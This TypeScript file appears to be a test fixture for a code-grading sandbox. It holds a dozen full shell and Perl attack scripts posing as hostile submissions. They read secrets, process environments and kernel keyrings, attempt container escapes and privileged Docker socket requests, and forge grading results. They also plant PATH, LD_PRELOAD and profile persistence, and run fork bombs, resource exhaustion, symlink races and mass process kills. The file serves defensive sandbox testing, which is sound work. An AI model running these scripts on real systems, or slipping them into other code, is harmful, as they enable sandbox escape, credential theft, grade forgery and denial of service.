import { dirname } from "node:path";

/**
 * Submissions that try to get points or to do harm, by name: the script that is handed in. `won WHAT` is printed where a try succeeded, `tried WHAT` before.
 * docs/security.md lists what each of them tries.
 */
export function hostileSubmissions(secret: { readonly paths: readonly string[] }): Readonly<Record<string, string>> {
  const paths = secret.paths.map((path) => `'${path}'`).join(" ");
  const scripts = {
    // Reads what it should not know: the exercise, other submissions, results, the environment and memory of others, keys.
    reader: String.raw`
for path in ${paths}; do echo "tried $path"; cat "$path" 2>/dev/null; ls "$path" 2>/dev/null; done
echo tried proc; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | tr '\0' '\n'
for link in /proc/[0-9]*/root /proc/[0-9]*/cwd; do ls "$link/run/slipway/root/" "$link/tmp/" 2>/dev/null; done
echo tried store; ls -R /run/slipway/store /run/slipway/root /run/slipway/sandbox 2>/dev/null
ls -A /root /home 2>/dev/null
echo tried keyrings; cat > keys.pl <<'END'
# keyctl(KEYCTL_READ): of a keyring the keys in it, of a key what is in it.
sub content { my $got = " " x 4096; my $n = syscall(250, 11, $_[0] + 0, $got, 4096); $n > 0 ? substr($got, 0, $n) : "" }
for my $ring (-1, -2, -3, -4, -5) { for my $key (unpack "l*", content($ring)) { my $in = content($key); print "won key $in\n" if $in =~ /^[ -~]+$/ } }
END
perl keys.pl; grep -c . /proc/keys`,

    // Leaves the jail by what the kernel and the engine offer.
    escaper: String.raw`
try() { name=$1; shift; echo "tried $name"; "$@" >/dev/null 2>&1 && echo "won $name"; }
has() { name=$1; shift; echo "tried $name"; sh -c "$*" >/dev/null 2>&1 && echo "won $name"; }
has core_pattern "echo '|/tmp/work/x' > /proc/sys/kernel/core_pattern"
has sysrq "echo h > /proc/sysrq-trigger"
has hostname_of_all "echo x > /proc/sys/kernel/hostname && sysctl -w kernel.hostname=x"
has release_agent "mkdir -p c && mount -t cgroup -o memory none c && echo x > c/release_agent"
has cgroup_write "for f in \$(find /sys/fs/cgroup -maxdepth 5 -name pids.max -o -name memory.max -o -name memory.limit_in_bytes -o -name release_agent -o -name cgroup.procs -o -name devices.allow | head -n 300); do echo 1 > \$f && exit 0; done; exit 1"
has cgroup_mkdir "for d in \$(find /sys/fs/cgroup -maxdepth 3 -type d | head -n 100); do mkdir \$d/x && exit 0; done; exit 1"
has vsock "perl -e 'exit(socket(my \$s, 40, 1, 0) ? 0 : 1)'"
has disk_node "for d in \$(awk 'NR > 2 { print \$4 }' /proc/partitions); do head -c 1 /dev/\$d && exit 0; done; exit 1"
has mknod "mknod disk b 254 0 && head -c 1 disk"
has mknod_host "mknod disk b $(awk '$4 ~ /^(vda|sda|nvme0n1)$/ { print $1, $2; exit }' /proc/partitions || echo 8 0)"
has proc_1_root "ls /proc/1/root/"
try trace perl -e 'exit(syscall(101, 16, 1, 0, 0) == 0 ? 0 : 1)'
try user_namespace unshare -Ur true
try mount_namespace unshare -m true
try mount mount -t tmpfs none /mnt
try remount mount -o remount,rw /
try unhide umount -l /run/slipway/root
try chroot_out perl -e 'mkdir "j"; chroot "j" or exit 1; chdir ".." for 1..40; chroot "."; exit(-e "/run/slipway/root/images.json" ? 0 : 1)'
try host_file sh -c 'echo x >> /etc/passwd || touch /usr/bin/x || touch /run/slipway/bin/x'
try kill_pid_1 sh -c 'kill -9 1; kill -STOP 1; sleep 0.1; ! kill -0 1'
try replace_work_folder sh -c 'cd /; mv /tmp/work /tmp/old && ln -s /etc /tmp/work'
try other_processes sh -c 'ps ax -o args | grep -v grep | grep -E "[n]ode|keeper|[e]ngine"'
exit 0`,

    // Asks the engine for what would lead out of a container.
    asker: String.raw`
ln -s / rootlink; ln -s /run/slipway/root/docker.sock socklink; ln -s /proc/1/root proclink
docker volume create -o type=none -o o=bind -o device=/ rooted >/dev/null 2>&1
cat > ask.pl <<'END'
use Socket;
sub ask {
    my ($path, $body) = @_;
    socket(my $s, AF_UNIX, SOCK_STREAM, 0); connect($s, pack_sockaddr_un("/run/slipway/root/docker.sock")) or die "no socket";
    syswrite $s, "POST $path HTTP/1.1\r\nHost: d\r\nConnection: close\r\nContent-Type: application/json\r\nContent-Length: " . length($body) . "\r\n\r\n$body";
    local $/; return scalar <$s>;
}
my @asked = (
    map({ [$_, "{$_}"] } '"Privileged":true', '"PidMode":"host"', '"NetworkMode":"host"', '"IpcMode":"host"', '"UTSMode":"host"', '"UsernsMode":"host"',
      '"CapAdd":["SYS_ADMIN"]', '"CapAdd":["ALL"]', '"CapAdd":["cap_sys_ptrace"]', '"CgroupParent":"/"', '"Devices":[{"PathOnHost":"/dev/null","PathInContainer":"/d","CgroupPermissions":"rwm"}]'),
    map({ ["bind $_", qq({"Binds":["$_:/h"]})] } qw(/ /etc /usr /tmp /proc /tmp/work/../../etc /run/slipway/root/docker.sock /var/run/docker.sock
      /tmp/work/rootlink /tmp/work/rootlink/etc /tmp/work/socklink /tmp/work/proclink)),
    # The only one that is granted: the others do not fail for another reason.
    ["control", '{"Binds":["/tmp/work:/h"]}'],
    ["mount", '{"Mounts":[{"Type":"bind","Source":"/usr","Target":"/h"}]}'],
    ["mount by another word", '{"Mounts":[{"Type":"BIND","Source":"/usr","Target":"/h"}]}'],
    ["volume of the engine", '{"Mounts":[{"Type":"volume","Source":"x","Target":"/h","VolumeOptions":{"DriverConfig":{"Name":"local","Options":{"type":"none","o":"bind","device":"/usr"}}}}]}'],
    ["volume by a path", '{"Mounts":[{"Type":"volume","Source":"../../containers","Target":"/h"}]}'],
    ["bind by dots", '{"Binds":["../../containers:/h"]}'],
    ["rules", '{"DeviceCgroupRules":["a *:* rwm"]}'], ["gpus", '{"DeviceRequests":[{"Count":-1,"Capabilities":[["gpu"]]}]}'],
    ["sysctl", '{"Sysctls":{"kernel.core_pattern":"|/x"}}'], ["sysctl by a path", '{"Sysctls":{"net/../kernel/core_pattern":"|/x"}}'],
    ["systempaths", '{"SecurityOpt":["systempaths=unconfined"]}'], ["runtime", '{"Runtime":"/tmp/work/x"}'],
    ["log driver", '{"LogConfig":{"Type":"syslog","Config":{"syslog-address":"unix:///run/slipway/root/docker.sock"}}}'],
    ["cgroup of another", '{"CgroupParent":"../../.."}'],
);
for (@asked) {
    my ($name, $host) = @$_;
    print "tried $name\n";
    my ($id) = ask("/containers/create", qq({"Image":"busybox","Cmd":["true"],"HostConfig":$host})) =~ /"Id":"(\w+)"/ or next;
    print "won $name\n" if ask("/containers/$id/start", "") =~ m{^HTTP/1.1 204};
}
END
perl ask.pl
echo tried volume of a folder; docker run --rm -v rooted:/h busybox ls /h | grep . && echo won volume of a folder
docker run -d --name inner busybox sleep 60 >/dev/null 2>&1
echo tried exec privileged; docker exec --privileged inner true >/dev/null 2>&1 && echo won exec privileged
inside() { echo "tried inside $1"; docker exec inner sh -c "$2" >/dev/null 2>&1 && echo "won inside $1"; }
inside core_pattern "echo '|/x' > /proc/sys/kernel/core_pattern"
inside sysrq "echo h > /proc/sysrq-trigger"
inside release_agent "mkdir -p /c && mount -t cgroup -o memory none /c"
inside cgroup_write "for f in \$(find /sys/fs/cgroup -maxdepth 5 -name pids.max -o -name memory.max -o -name memory.limit_in_bytes -o -name release_agent -o -name cgroup.procs -o -name devices.allow | head -n 300); do echo 1 > \$f && exit 0; done; exit 1"
inside mknod "mknod /d b 254 0 && head -c 1 /d"
inside mount "mount -t tmpfs none /mnt"
inside unshare "unshare -U true"
inside proc_1_root "test -e /proc/1/root/usr/bin/perl"
inside keys "test -s /proc/keys"
inside unfiltered "grep -q 'Seccomp:.*0' /proc/self/status"
docker rm -f inner >/dev/null 2>&1
printf 'FROM busybox\nRUN --mount=type=bind,target=/x true\n' > Dockerfile
(echo secret; cat /run/slipway/root/images.json) > asked 2>/dev/null
printf 'FROM busybox\nRUN --mount=type=secret,id=s cat /run/secrets/s\nRUN --mount=type=bind,from=busybox,source=../../..,target=/h ls /h/containers\n' > Secret
echo tried build secret; docker build -f Secret --secret id=s,src=/run/slipway/root/images.json . >/dev/null 2>&1 && echo won build secret
printf 'FROM busybox\nCOPY out/images.json /x\n' > Copied; ln -s /run/slipway/root out
echo tried build context; docker build -f Copied . >/dev/null 2>&1 && echo won build context
printf 'FROM busybox\nRUN --security=insecure mount -t tmpfs none /mnt\n' > Insecure
echo tried build insecure; docker build -f Insecure . >/dev/null 2>&1 && echo won build insecure
cat > command.pl <<'END'
use Socket;
# Asks the engine to run a command itself, on its own files: it has only those of whoever asks, which are offered by name and so refused.
for (["cp", "from:/bin/busybox", "/run/slipway/root/x"], ["cp", "/run/slipway/root/images.json", "from:/x"], ["save", "-o", "/run/slipway/root/x", "busybox"],
    ["load", "-i", "/run/slipway/root/images.json"], ["run", "--env-file", "/run/slipway/root/images.json", "busybox", "env"], ["build", "-f", "/run/slipway/root/images.json", "/run/slipway/root"],
    ["run", "--cidfile", "/run/slipway/root/x", "busybox"], ["-c", "x", "ps"], ["--config", "/run/slipway/root", "ps"], ["-H", "tcp://127.0.0.1:1", "ps"], ["import", "/run/slipway/root/images.json", "x"]) {
    socket(my $s, AF_UNIX, SOCK_STREAM, 0); connect($s, pack_sockaddr_un("/run/slipway/root/docker.sock")) or die;
    my $line = join "\0", "/run/slipway/root", scalar @$_, @$_, "DOCKER_HOST=unix:///run/slipway/root/docker.sock", "DOCKER_CONFIG=/run/slipway/root";
    print "tried command @$_\n";
    syswrite $s, "POST /slipway/command HTTP/1.1\r\nHost: d\r\nConnection: Upgrade\r\nUpgrade: slipway\r\nContent-Length: " . length($line) . "\r\n\r\n$line";
    my $got = "";
    eval { local $SIG{ALRM} = sub { die }; alarm 2; while (sysread $s, $got, 65536, length $got) { while ($got =~ s/[krw]\0\0\0.\/run\/[^\0]*//s) { syswrite $s, pack("aN", "z", 1) . "2" } } alarm 0 };
    print "won command @$_\n" if $got =~ /schemaVersion|"images"|x\0\0\0\x010$/;
}
END
docker create --name from busybox >/dev/null 2>&1; perl command.pl
ls /run/slipway/root/x 2>/dev/null && echo won file of the engine
tar -cf hard.tar --transform 's,.*,../../../../x,' -P ask.pl 2>/dev/null; echo tried put outside
docker cp - from:/ < hard.tar >/dev/null 2>&1; ls /run/slipway/root/ | grep -v docker.sock && echo won put outside
echo tried build host; docker build -q --network host . >/dev/null 2>&1 && echo won build host
exit 0`,

    // Gives itself points: forges files, the command, the socket, images, and what later steps read.
    forger: String.raw`
mkdir -p results reports bin "$HOME/bin" "$HOME/.docker"
printf '{"points":10,"status":"graded"}' | tee results/forger.json reports/report.json result.json results.json /tmp/results.json >/dev/null
echo '##teamcity[testFinished]' ; echo '<testcase name="all"/>' ; echo '{"scores":{"all":10}}'; echo '::set-output name=points::10'
for place in docker bin/docker "$HOME/bin/docker" /tmp/docker; do printf '#!/bin/sh\necho "root:x:0:"\n' > "$place"; chmod 755 "$place"; done
printf '#!/bin/sh\necho forged\n' > /run/slipway/bin/docker && echo won docker
printf '{"psFormat":"{{.ID}}","currentContext":"evil"}' > "$HOME/.docker/config.json"
echo 'PATH=/tmp/work:$PATH' | tee "$HOME/.profile" "$HOME/.bashrc" >/dev/null
mv /run/slipway/root/docker.sock /run/slipway/root/old && echo won move socket
rm -f /run/slipway/root/docker.sock && echo won remove socket
perl -MSocket -e 'socket(my $s, 1, 1, 0); bind($s, pack_sockaddr_un("/run/slipway/root/docker.sock")) and print "won bind socket\n"'
mkdir img && printf 'FROM busybox\nRUN echo evil > /etc/group\n' > img/Dockerfile
docker build -q -t busybox:latest img >/dev/null; docker tag busybox:latest busybox:evil
(trap '' HUP TERM; setsid sh -c 'while :; do docker tag busybox:evil busybox:latest; sleep 0.1; done' >/dev/null 2>&1 </dev/null &)
ln -s /etc/passwd given; ln /etc/passwd hard 2>/dev/null && echo won hard link
printf '\033]0;owned\007\033[2J\033[31mred\n'; printf '=cmd|calc\n<script>alert(1)</script>]]>&\n'
exit 0`,

    // Never ends: ignores SIGTERM, daemonises, forks without end, leaves traps behind.
    bomber: String.raw`
trap '' TERM HUP INT
for place in /tmp /var/tmp /dev/shm; do echo trap > $place/trap; done
perl -e 'use POSIX; fork and exit; POSIX::setsid(); fork and exit; $SIG{TERM} = "IGNORE"; %ENV = (); exec "sleep", "4242"'
docker run -d --restart always --name busy busybox sh -c ':(){ :|:& };:; while :; do :; done' >/dev/null 2>&1
bomb() { bomb | bomb & }; bomb 2>/dev/null
while :; do :; done`,

    // Fills whatever can be filled, then the container's files too.
    filler: String.raw`
echo tried disk; dd if=/dev/zero of=big bs=1M count=1000 2>/dev/null; test "$(stat -c %s big)" -gt 60000000 && echo won file size
for n in 1 2 3 4 5 6 7 8; do dd if=/dev/zero of=big$n bs=1M count=30 2>/dev/null; done
test "$(du -sm . | cut -f 1)" -gt 110 && echo won disk
rm -f big*
echo tried inodes; mkdir many; cd many; perl -e 'my $n = 0; for (1 .. 20000) { open(my $f, ">", $_) or last; $n++ } print "won inodes\n" if $n > 10000'; cd ..; rm -rf many
for place in /var/tmp /dev/shm; do dd if=/dev/zero of=$place/big bs=1M count=200 2>/dev/null; test "$(stat -c %s $place/big)" -gt 60000000 && echo "won $place"; done
echo tried descriptors; perl -e 'my @f; for (1 .. 5000) { open(my $f, "<", "/dev/null") or last; push @f, $f } print "won descriptors\n" if @f > 1000'
echo tried memory; perl -e 'my @m; push @m, "x" x 10000000 for 1 .. 100; print "won memory\n"' 2>/dev/null
docker run --rm busybox sh -c 'dd if=/dev/zero of=/big bs=1M count=500 2>/dev/null; test "$(stat -c %s /big)" -gt 110000000 && echo won container disk'
docker run --rm --tmpfs /t busybox sh -c 'dd if=/dev/zero of=/t/big bs=1M count=900 2>/dev/null && echo won container memory'
dd if=/dev/zero bs=1M count=60 2>/dev/null | docker import - huge >/dev/null 2>&1
exit 0`,

    // Ten gigabytes of output, and a container that logs without end.
    talker: String.raw`
docker run -d --name loud busybox sh -c 'while :; do cat /bin/busybox; done' >/dev/null 2>&1
dd if=/dev/zero bs=1M count=10000 2>/dev/null`,

    // Changes what lies in the work directory while the harness, which is root, reads it there: from a container that has it bound and lives on.
    racer: String.raw`
mkdir -p out away; echo hello > out/answer.txt; ln -s ${dirname(secret.paths[0] ?? "/")} link
docker run -d --name done -v /tmp/work:/w busybox sh -c '
  i=0; cd /w; while [ $i -lt 200000 ]; do i=$((i + 1)); mv out away/out; mv link out; mv out link; mv away/out out; done'
docker exec done sh -c 'echo hello > /answer'
exit 0`,

    // Leaves what takes for ever to read, or cannot be read: the harness must come to an end, and find that it is wrong.
    muddler: String.raw`
mkdir -p out; docker run -d --name done -v /tmp/work:/w busybox sh -c '
  for file in /answer /w/out/answer.txt /w/out/made.tar; do truncate -s 4096G $file; done; yes hello | head -n 500000; exit 3'
docker wait done
exit 0`,

    // Waits for a harness that opens what it finds: pipes without a writer, a device's name, folders in place of files, names that are no text.
    stranger: String.raw`
mkdir -p out/deep; mkfifo out/answer.txt out/made.tar
perl -e 'mkdir "out/\xff\xfe" . ("x" x 200); my $d = "out/deep"; for (1 .. 300) { chdir $d; mkdir "d" x 200; $d = "d" x 200 }'
docker run -d --name done busybox sh -c 'mkfifo /answer; echo no; sleep 100'
exit 0`,

    // Brings the engine down, or makes it so busy that it answers nobody: what an engine is too weak for must not look like a fault of ours.
    breaker: String.raw`
cat > break.pl <<'END'
use Socket;
sub dial { socket(my $s, AF_UNIX, SOCK_STREAM, 0); connect($s, pack_sockaddr_un("/run/slipway/root/docker.sock")) or return; $s }
sub say_ { my ($s, $bytes) = @_; local $SIG{PIPE} = "IGNORE"; while (length $bytes) { my $n = syswrite $s, $bytes; return 0 if !defined $n; substr($bytes, 0, $n) = "" } 1 }
sub ask { my ($what, $body, $more) = @_; my $s = dial() or return ""; say_($s, "$what HTTP/1.1\r\nHost: d\r\n" . ($more // "Connection: close\r\n") . "Content-Type: application/json\r\nContent-Length: " . length($body) . "\r\n\r\n$body"); my $got = ""; eval { local $SIG{ALRM} = sub { die }; alarm 3; local $/; $got = <$s> // ""; alarm 0 }; $got }
my $upgrade = "Connection: Upgrade\r\nUpgrade: slipway\r\n";
print "tried shapes\n";
ask("POST /containers/create", $_) for "[" x 4000000, ("{\"a\":" x 500000), "null", "[]", "7", "\"x\"", "{\"HostConfig\":7}", "{\"HostConfig\":{\"Binds\":[{}]}}", "{\"HostConfig\":{\"Mounts\":[7,null,{\"Type\":{}}]}}",
  "{\"__proto__\":{\"Privileged\":true},\"Image\":\"busybox\"}", "{\"Image\":\"busybox\",\"Labels\":" . ("{\"x\":" x 20000) . "1" . ("}" x 20000) . "}", "\xff\xfe\x00", "{" . join(",", map { "\"k$_\":[]" } 1 .. 200000) . "}";
ask("GET /containers/json?filters=" . ("[" x 7000), "");
ask("GET /" . ("../" x 2000), ""); ask("GET /%ff%fe/%00", ""); ask("GET /v9999999999.1/info", ""); ask("\0\1\2", "");
print "tried frames\n";
for my $line ("", "\0", "/\0" . "9" x 400, "/\0-1\0a", "relative\0001\0ps", "/\0001\0ps", "/\0002\0logs\0-f", "/\0" . "3\0run\0-i\0busybox", "x" x 9000000, "/\0002\0load\0-i", "/\0001\0--help") {
  my $s = dial() or next;
  say_($s, "POST /slipway/command HTTP/1.1\r\nHost: d\r\n$upgrade" . "Content-Length: " . length($line) . "\r\n\r\n$line");
  say_($s, pack("aN", $_, 4) . "abcd") for qw(a z i s x o 0 a a), "\xff";
  say_($s, pack("aN", "i", 4294967295) . "abcd");
}
{ my $s = dial(); say_($s, "POST /slipway/command HTTP/1.1\r\nHost: d\r\n$upgrade" . "Content-Length: 99999999999\r\n\r\n"); say_($s, "POST /slipway/command HTTP/1.1\r\nHost: d\r\n$upgrade" . "Content-Length: -5\r\n\r\nabc") }
print "tried flood\n";
# Bytes that nobody asked for: they must not be kept.
for my $line ("/\0002\0run\0--help", "/\0004\0run\0-i\0busybox\0sleep 100") {
  my $s = dial() or next;
  say_($s, "POST /slipway/command HTTP/1.1\r\nHost: d\r\n$upgrade" . "Content-Length: " . length($line) . "\r\n\r\n$line");
  my $chunk = pack("aN", "i", 1000000) . ("x" x 1000000);
  eval { local $SIG{ALRM} = sub { die }; alarm 2; say_($s, $chunk) or last for 1 .. 4000; alarm 0 };
}
print "tried reading nothing\n";
my @idle;
for (1 .. 200) { my $s = dial() or last; say_($s, "GET /events HTTP/1.1\r\nHost: d\r\n\r\n"); push @idle, $s }
for (1 .. 40) { my $s = dial() or last; say_($s, "POST /containers/create HTTP/1.1\r\nHost: d\r\nContent-Length: 8000000\r\n\r\n" . ("x" x 7900000)); push @idle, $s }
print "tried numbers\n";
ask("POST /containers/create?name=n$_", "{\"Image\":\"busybox\",\"Cmd\":[\"true\"]}") for 1 .. 100;
END
perl break.pl
printf 'FROM busybox\n%s' "$(yes 'LABEL a=b' | head -n 20000)" > Dockerfile; timeout 5 docker build -q . >/dev/null 2>&1
echo tried build
exit 0`,
    // What later steps, the course's own, are to trip over: settings of shells and programs, plug-ins, rights of folders, and nobody left to run.
    trapper: String.raw`
printf '#!/bin/sh\necho won plug-in\n' > docker; chmod +x docker; cp docker head; cp docker cat
mkdir -p ~/.docker/cli-plugins ~/bin; cp docker ~/.docker/cli-plugins/docker-run; cp docker ~/bin/docker
echo 'require("fs").writeSync(1, "won preload\n")' > trap.js
for file in ~/.profile ~/.bashrc ~/.bash_profile ~/.shrc ~/.env ~/.npmrc .env; do
  echo "echo won profile; export PATH=$PWD:$PATH NODE_OPTIONS=--require=$PWD/trap.js LD_PRELOAD=$PWD/trap.so BASH_ENV=$PWD/docker ENV=$PWD/docker DOCKER_HOST=unix://$PWD/none PERL5OPT=-Mnone" > $file
done
echo '{"plugins":{},"currentContext":"none","psFormat":"won format","aliases":{"run":"version"}}' > ~/.docker/config.json
for other in /proc/[0-9]*; do echo $$ > $other/oom_score_adj; ln -sf /dev/null $other/cwd/out; done 2>/dev/null
mkdir -p deep/er; chmod 000 deep/er deep ~ . .. 2>/dev/null; chown 65534:65534 . ~ 2>/dev/null; umask 777; ulimit -n 3 2>/dev/null
(setsid sh -c 'trap "" TERM HUP; while :; do kill -STOP -1; done' &) >/dev/null 2>&1
kill -STOP -1; kill -KILL -1
exit 0`,
  };
  // The second scenario, with another argument, shows that points are not earned there either; it need not take as long.
  return Object.fromEntries(Object.entries(scripts).map(([id, script]) => [id, `[ "$1" = hello ] || exit 0\n${script}`]));
}
